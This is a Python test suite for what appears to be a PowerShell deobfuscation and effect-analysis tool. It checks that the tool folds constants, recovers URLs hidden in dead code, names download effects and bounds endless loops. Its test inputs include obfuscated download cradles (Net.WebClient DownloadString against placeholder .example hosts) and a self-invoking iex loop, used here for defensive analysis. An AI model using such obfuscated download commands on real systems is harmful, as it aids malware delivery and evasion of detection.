from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from noroshi.examine.budget import Budget, Limits
from noroshi.examine.model import EffectKind
from noroshi.examine.powershell import evaluate


def texts(script: str) -> set[str]:
    """Every text that came up."""
    return {seen.text for seen in evaluate(script).seen}


def test_dead_code_hides_no_text() -> None:
    """A branch that is never taken, an unused function and a catch give their texts, but no effects."""
    script = (
        "if($false){$u='http://dead'+'.example'}\nfunction f{'http://unused'+'.example'}\n"
        "try{1}catch{(New-Object Net.WebClient).DownloadString('http://caught'+'.example')}"
    )
    found = evaluate(script)
    assert {"http://dead.example", "http://unused.example", "http://caught.example"} <= texts(script)
    assert () == found.effects


def test_an_unused_variable_keeps_its_text() -> None:
    """What no code reads is kept all the same."""
    assert "http://one.example/x" in texts("$u='http://one'+'.example/x'")


def test_the_cleaned_script_is_readable() -> None:
    """Constants are folded, names spelt as PowerShell does, one statement a line."""
    found = evaluate("$a=('{1}{0}'-f'b','a');n`Ew-obJect ('Net.W'+'ebClient')|oUt-nU`ll")
    assert "$a = 'ab'\nNew-Object 'Net.WebClient' | Out-Null" == found.cleaned


def test_each_folding_is_explained() -> None:
    """The rule, what stood there and what it became."""
    found = evaluate("$a=('{1}{0}'-f'b','a')")
    assert ("format", "'{1}{0}'-f'b','a'", "ab") in {
        (step.rule, step.before, step.after) for step in found.foldings
    }


def test_an_effect_says_what_is_not_known() -> None:
    """The argument keeps what is known; the rest stands in its own words, and the effect is not exact."""
    (effect,) = evaluate(
        "(New-Object Net.WebClient).DownloadString('http://one.example/'+(Get-Random))"
    ).effects
    assert (EffectKind.DOWNLOAD, "http://one.example/‹Get-Random›", False) == (
        effect.kind,
        effect.arguments["url"],
        effect.exact,
    )


def test_places_name_the_line() -> None:
    """An effect stands where its call stands."""
    (effect,) = evaluate("$a=1\n\nStart-Process calc").effects
    assert 3 == effect.place.line


@pytest.mark.parametrize(
    ("script", "what"),
    [
        ("while($true){$i++}", "steps"),
        ("'A'*900000000", "text"),
        ("$a='x'*1000;while($true){$a+=$a}", "text"),
        ("1..2000000000", "steps"),
        ("function f{f};while(1){f}", "steps"),
        ("$s='iex $s';while(1){iex $s}", "steps"),
    ],
)
def test_endless_work_is_bounded(script: str, what: str) -> None:
    """A limit ends it, is named, and what came before stands."""
    found = evaluate("Start-Process before\n" + script, Budget(Limits(steps=20_000, text=1 << 20)))
    assert what in {bound.what for bound in found.bounded} or (what == "steps" and found.effects)
    assert "before" == found.effects[0].arguments["command"]
    assert found.partial or what == "steps"


def test_deep_nesting_is_no_crash() -> None:
    """Two thousand brackets are refused with a reason, and the next statement is evaluated."""
    found = evaluate("$a=" + "(" * 2_000 + "'x'" + ")" * 2_000 + "\nStart-Process after")
    assert "after" in {effect.arguments["command"] for effect in found.effects}
    assert found.partial


def test_a_broken_statement_does_not_hide_the_next() -> None:
    """Parsing goes on at the next line."""
    found = evaluate("$x = )(]] 'abc\nStart-Process calc")
    assert ["calc"] == [effect.arguments["command"] for effect in found.effects]
    assert found.unknown


def test_long_char_sums_are_linear() -> None:
    """Eight thousand terms are folded within the ordinary budget."""
    found = evaluate("$a=" + "+".join(["[char]65"] * 8_000) + ";Start-Process $a")
    assert "A" * 8_000 == found.effects[0].arguments["command"]


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="$(){}[]'\"`;|&,.:=+-%@<#\n abieforx01", max_size=60))
def test_any_text_is_evaluated_without_a_crash(script: str) -> None:
    """Whatever the text, there is an evaluation."""
    found = evaluate(script, Budget(Limits(steps=5_000, text=100_000)))
    assert found.steps <= 5_001
